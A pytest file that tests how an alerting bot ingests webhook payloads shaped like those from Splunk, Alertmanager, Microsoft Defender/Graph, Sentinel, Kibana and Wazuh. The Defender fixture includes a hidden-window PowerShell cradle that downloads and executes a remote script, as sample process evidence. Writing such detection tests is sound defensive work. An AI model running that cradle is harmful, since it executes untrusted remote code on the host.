"""Bodies shaped like the vendors' published examples, posted over HTTP as each sender posts them.

Values are our own; the shapes follow the published docs: the Splunk webhook alert action example
(values as strings, `search_name` null), the Alertmanager webhook v4 body, the Graph `GET
/security/alerts_v2/{id}` response, the Sentinel incident trigger body, a Kibana Webhook body
rendered from the documented template (Mustache writes missing values as ""), and a Wazuh
alerts.json record of a Windows event.
"""

from __future__ import annotations

import base64
import copy
import time

import pytest

from bot.alerts import repository
from bot.alerts.model import Alert, Entity, Severity, Status
from tests.alerts.samples import sample
from tests.alerts.webhook import TOKEN, alert_env, post
from tests.bot.harness import Harness

BEARER = {"Authorization": f"Bearer {TOKEN}"}
BASIC = {"Authorization": "Basic " + base64.b64encode(f"alertmanager:{TOKEN}".encode()).decode()}

SPLUNK_DOC_SHAPE = {
    "result": {"sourcetype": "nginx:access", "count": "12"},
    "sid": "scheduler_soc_search_X7_at_1714640000_12",
    "results_link": "http://splunk.example.test:8000/app/search/@go?sid=scheduler_soc_search_X7_at_1714640000_12",
    "search_name": None,
    "owner": "soc",
    "app": "search",
}

ALERTMANAGER_V4 = {
    "version": "4",
    "groupKey": '{}:{alertname="SshBruteForce"}',
    "truncatedAlerts": 0,
    "status": "firing",
    "receiver": "vigil",
    "groupLabels": {"alertname": "SshBruteForce"},
    "commonLabels": {"alertname": "SshBruteForce", "job": "auth"},
    "commonAnnotations": {},
    "externalURL": "http://alertmanager.example.test:9093",
    "alerts": [
        {
            "status": "firing",
            "labels": {
                "alertname": "SshBruteForce",
                "instance": "bastion-1:9100",
                "severity": "warning",
            },
            "annotations": {"summary": "SSH brute force on bastion-1"},
            "startsAt": "2024-05-02T10:00:00.123456789Z",
            "endsAt": "0001-01-01T00:00:00Z",
            "generatorURL": "http://prometheus.example.test:9090/graph?g0.expr=x",
            "fingerprint": "0a1b2c3d4e5f6071",
        },
        {
            # No severity label at all, an IPv6 target, and no annotations.
            "status": "firing",
            "labels": {"alertname": "SshBruteForce", "instance": "[2001:db8::5]:9100"},
            "annotations": {},
            "startsAt": "2024-05-02T10:00:05Z",
            "endsAt": "0001-01-01T00:00:00Z",
            "generatorURL": "",
            "fingerprint": "1b2c3d4e5f607182",
        },
    ],
}

GRAPH_ALERT = {
    "@odata.type": "#microsoft.graph.security.alert",
    "id": "da638000000000000000_-1234567890",
    "providerAlertId": "da638000000000000000_-1234567890",
    "incidentId": "4242",
    "status": "inProgress",
    "severity": "low",
    "classification": "unknown",
    "determination": "unknown",
    "serviceSource": "microsoftDefenderForEndpoint",
    "detectionSource": "antivirus",
    "detectorId": "11111111-2222-4333-8444-555555555555",
    "tenantId": "22222222-3333-4444-8555-666666666666",
    "title": "Suspicious PowerShell download cradle",
    "description": "PowerShell fetched and ran a remote script.",
    "category": "Execution",
    "assignedTo": None,
    "alertWebUrl": "https://security.microsoft.com/alerts/da638000000000000000_-1234567890",
    "incidentWebUrl": "https://security.microsoft.com/incidents/4242",
    "mitreTechniques": ["T1059.001"],
    "createdDateTime": "2024-05-02T10:01:02.1234567Z",
    "lastUpdateDateTime": "2024-05-02T10:05:00.1234567Z",
    "resolvedDateTime": None,
    "firstActivityDateTime": "2024-05-02T10:00:00.123Z",
    "lastActivityDateTime": "2024-05-02T10:00:30.456Z",
    "comments": [],
    "evidence": [
        {
            "@odata.type": "#microsoft.graph.security.deviceEvidence",
            "verdict": "unknown",
            "remediationStatus": "none",
            "deviceDnsName": "ws-eng-042.corp.example",
            "osPlatform": "Windows11",
            "ipInterfaces": ["10.1.2.3"],
            "loggedOnUsers": [],
            "roles": ["compromised"],
        },
        {
            "@odata.type": "#microsoft.graph.security.processEvidence",
            "processId": 5120,
            "parentProcessId": 880,
            "processCommandLine": "powershell.exe -nop -w hidden -c iex(iwr http://198.51.100.4/a)",
            "imageFile": {
                "sha1": "0123456789abcdef0123456789abcdef01234567",
                "sha256": "aa" * 32,
                "fileName": "powershell.exe",
                "filePath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            },
            "parentProcessImageFile": {"sha1": None, "sha256": None, "fileName": "explorer.exe"},
            "userAccount": {
                "accountName": "SYSTEM",
                "domainName": "NT AUTHORITY",
                "userSid": "S-1-5-18",
                "azureAdUserId": None,
                "userPrincipalName": None,
                "displayName": "System",
            },
        },
        {
            "@odata.type": "#microsoft.graph.security.registryKeyEvidence",
            "registryKey": "SOFTWARE\\Example\\Run",
            "registryHive": "HKEY_LOCAL_MACHINE",
        },
        {
            "@odata.type": "#microsoft.graph.security.urlEvidence",
            "url": "http://198.51.100.4/a",
        },
        {"@odata.type": "#microsoft.graph.security.dnsEvidence", "domainName": "cdn.example.net"},
        {"@odata.type": "#microsoft.graph.security.someFutureEvidence", "whatever": {"x": 1}},
    ],
    "systemTags": ["Defender Experts"],
}

# The documented default template as Kibana renders it: every value a string, "" when missing.
ELASTIC_RENDERED = {
    "alert.id": "query matched",
    "alert.uuid": "5d3e1c2b-0000-4000-8000-00000000abcd",
    "alert.actionGroup": "query matched",
    "rule.id": "3c2b1a00-0000-4000-8000-000000000001",
    "rule.name": "Credential dumping via LSASS access",
    "rule.tags": "credential-access,windows",
    "rule.url": "https://kibana.example.test/app/security/rules/id/3c2b1a00",
    "kibana.alert.severity": "",
    "kibana.alert.risk_score": "73",
    "context.reason": "process access to lsass.exe by procdump.exe on ws-7",
    "date": "2024-05-02T10:10:00.000Z",
    "host.name": "ws-7",
}

WAZUH_WINDOWS = {
    "timestamp": "2024-05-02T10:20:00.456+0200",
    "rule": {
        "level": 12,
        "description": "Multiple Windows logon failures",
        "id": "60204",
        "firedtimes": 3,
        "mail": True,
        "groups": ["windows", "windows_security", "authentication_failures"],
    },
    "agent": {"id": "007", "name": "dc-02", "ip": "10.0.0.12"},
    "manager": {"name": "wazuh-manager"},
    "id": "1714638000.555123",
    "decoder": {"name": "windows_eventchannel"},
    "data": {
        "win": {
            "system": {"eventID": "4625", "computer": "dc-02.corp.example"},
            "eventdata": {"targetUserName": "svc-backup", "ipAddress": "198.51.100.61"},
        }
    },
    "location": "EventChannel",
}


@pytest.fixture
async def bot(store_url):
    harness = await Harness.start(store_url, alert_env())
    try:
        yield harness
    finally:
        await harness.close()


async def stored(bot: Harness, alert_id: str) -> Alert:
    found = await repository.get(bot.vigil.services.store, alert_id)
    assert found is not None
    return found[0]


async def test_splunk_documented_example_with_search_name_null(bot):
    status, answer = await post(bot.url, "splunk", SPLUNK_DOC_SHAPE, signed=False, headers=BEARER)
    assert status == 202, answer
    # No severity in the result: unknown, and the sender is told why.
    assert any("severity" in w for w in answer["accepted"][0]["warnings"])
    alert = await stored(bot, answer["ids"][0])
    assert alert.title == "Splunk alert (app search, owner soc)"
    assert alert.severity is Severity.UNKNOWN and alert.status is Status.FIRING
    assert alert.link == SPLUNK_DOC_SHAPE["results_link"]
    assert alert.rule == "scheduler_soc_search_X7"
    assert alert.warnings


async def test_splunk_multivalue_fields_and_fractional_time(bot):
    body = copy.deepcopy(SPLUNK_DOC_SHAPE)
    body["sid"] = "1714640000.99"
    body["search_name"] = "Beaconing hosts"
    body["result"] = {
        "dest": ["web-1", "web-2"],
        "src_ip": "203.0.113.80",
        "urgency": "critical",
        "_time": "1714640000.250",
    }
    status, answer = await post(bot.url, "splunk", body, signed=False, headers=BEARER)
    assert status == 202, answer
    alert = await stored(bot, answer["ids"][0])
    assert alert.title == "Beaconing hosts" and alert.severity is Severity.CRITICAL
    assert alert.entities[:2] == [Entity("host", "web-1"), Entity("host", "web-2")]
    assert alert.first_seen == pytest.approx(1714640000.25)
    assert not alert.warnings


async def test_alertmanager_v4_batch_then_resolved_with_basic_auth(bot):
    status, answer = await post(
        bot.url, "alertmanager", ALERTMANAGER_V4, signed=False, headers=BASIC
    )
    assert status == 202, answer
    first, second = [await stored(bot, i) for i in answer["ids"]]
    assert first.title == "SshBruteForce: SSH brute force on bastion-1"
    assert first.severity is Severity.MEDIUM
    assert first.entities == [Entity("host", "bastion-1")]
    assert first.link.startswith("http://prometheus.example.test")
    assert first.last_seen == first.first_seen  # endsAt 0001-01-01 is "still firing"
    assert second.title == "SshBruteForce" and second.severity is Severity.UNKNOWN
    assert second.entities == [Entity("host", "2001:db8::5")]
    assert second.link == "http://alertmanager.example.test:9093"

    resolved = copy.deepcopy(ALERTMANAGER_V4)
    resolved["status"] = "resolved"
    resolved["alerts"] = resolved["alerts"][:1]
    resolved["alerts"][0]["status"] = "resolved"
    resolved["alerts"][0]["endsAt"] = "2024-05-02T10:15:00Z"
    status, again = await post(bot.url, "alertmanager", resolved, signed=False, headers=BASIC)
    assert status == 202, again
    assert again["ids"] == answer["ids"][:1]
    assert again["accepted"][0]["outcome"] == "updated"
    assert (await stored(bot, answer["ids"][0])).status is Status.RESOLVED


async def test_graph_alert_as_get_alerts_v2_returns_it(bot):
    status, answer = await post(bot.url, "defender", GRAPH_ALERT)
    assert status == 202, answer
    assert "warnings" not in answer["accepted"][0]
    alert = await stored(bot, answer["ids"][0])
    assert alert.title == GRAPH_ALERT["title"] and alert.severity is Severity.LOW
    assert alert.status is Status.FIRING and alert.category == "Execution"
    assert alert.link == GRAPH_ALERT["alertWebUrl"]
    assert alert.primary_entity == Entity("host", "ws-eng-042.corp.example")
    assert Entity("hash", "aa" * 32) in alert.entities
    assert Entity("process", GRAPH_ALERT["evidence"][1]["processCommandLine"]) in alert.entities
    assert Entity("url", "http://198.51.100.4/a") in alert.entities
    assert Entity("domain", "cdn.example.net") in alert.entities
    assert alert.first_seen < alert.last_seen

    resolved = dict(GRAPH_ALERT, status="resolved", resolvedDateTime="2024-05-02T11:00:00Z")
    status, again = await post(bot.url, "defender", resolved)
    assert status == 202 and again["accepted"][0]["outcome"] == "updated", again
    assert (await stored(bot, answer["ids"][0])).status is Status.RESOLVED


async def test_graph_severity_unknown_is_a_documented_value_not_a_warning(bot):
    body = dict(GRAPH_ALERT, id="da-unknown-severity", severity="unknown")
    status, answer = await post(bot.url, "defender", body)
    assert status == 202, answer
    alert = await stored(bot, answer["ids"][0])
    assert alert.severity is Severity.UNKNOWN and not alert.warnings


async def test_sentinel_trigger_body_then_closed(bot):
    body = sample("sentinel")
    status, answer = await post(bot.url, "sentinel", body)
    assert status == 202, answer
    alert = await stored(bot, answer["ids"][0])
    assert alert.source_id == body["object"]["name"]
    assert alert.title == body["object"]["properties"]["title"]
    assert alert.severity is Severity.HIGH and alert.status is Status.FIRING
    assert alert.link == body["object"]["properties"]["incidentUrl"]
    assert Entity("user", "j.doe@contoso.com") in alert.entities
    assert Entity("ip", "203.0.113.7") in alert.entities
    body["objectEventType"] = "Update"
    body["object"]["properties"]["status"] = "Closed"
    body["object"]["properties"]["classification"] = "TruePositive"
    status, again = await post(bot.url, "sentinel", body, at=time.time() - 5)
    assert status == 202 and again["ids"] == answer["ids"], again
    assert (await stored(bot, answer["ids"][0])).status is Status.RESOLVED


async def test_elastic_body_rendered_from_the_documented_template(bot):
    status, answer = await post(bot.url, "elastic", ELASTIC_RENDERED)
    assert status == 202, answer
    alert = await stored(bot, answer["ids"][0])
    # "" severity (Mustache's missing value) falls back to the risk score, 73 -> high.
    assert alert.severity is Severity.HIGH and not alert.warnings
    assert alert.title == "Credential dumping via LSASS access"
    assert alert.source_id == ELASTIC_RENDERED["alert.uuid"]
    assert alert.category == "credential-access,windows"
    assert alert.entities == [Entity("host", "ws-7")]
    assert alert.link == ELASTIC_RENDERED["rule.url"]
    recovered = dict(ELASTIC_RENDERED, **{"alert.actionGroup": "recovered"})
    status, again = await post(bot.url, "elastic", recovered)
    assert status == 202 and again["accepted"][0]["outcome"] == "updated", again
    assert (await stored(bot, answer["ids"][0])).status is Status.RESOLVED


async def test_elastic_alert_document_fields_are_found_without_configuration(bot):
    document = {
        "kibana.alert.uuid": "77aa0000-0000-4000-8000-000000000077",
        "kibana.alert.rule.name": "Unusual parent process",
        "kibana.alert.rule.uuid": "rule-77",
        "kibana.alert.severity": "critical",
        "kibana.alert.reason": "cmd.exe spawned by winword.exe",
        "@timestamp": "2024-05-02T10:30:00Z",
        "host": {"name": "ws-9"},
        "user": {"name": "a.smith"},
    }
    status, answer = await post(bot.url, "elastic", document)
    assert status == 202, answer
    alert = await stored(bot, answer["ids"][0])
    assert alert.title == "Unusual parent process" and alert.rule == "rule-77"
    assert alert.severity is Severity.CRITICAL
    assert alert.description == "cmd.exe spawned by winword.exe"
    assert alert.entities == [Entity("host", "ws-9"), Entity("user", "a.smith")]
    assert alert.first_seen > 0


async def test_elastic_without_a_title_names_the_first_path(bot):
    status, answer = await post(bot.url, "elastic", {"rule.name": "", "alert.id": "x"})
    assert status == 422, answer
    assert answer["field"] == "rule.name"


async def test_wazuh_windows_event_record(bot):
    status, answer = await post(bot.url, "wazuh", WAZUH_WINDOWS)
    assert status == 202, answer
    alert = await stored(bot, answer["ids"][0])
    assert alert.title == "Multiple Windows logon failures"
    assert alert.severity is Severity.HIGH and alert.rule == "60204"
    assert alert.primary_entity == Entity("host", "dc-02")
    assert Entity("ip", "198.51.100.61") in alert.entities
    assert Entity("user", "svc-backup") in alert.entities
    assert alert.first_seen == pytest.approx(1714638000.456)
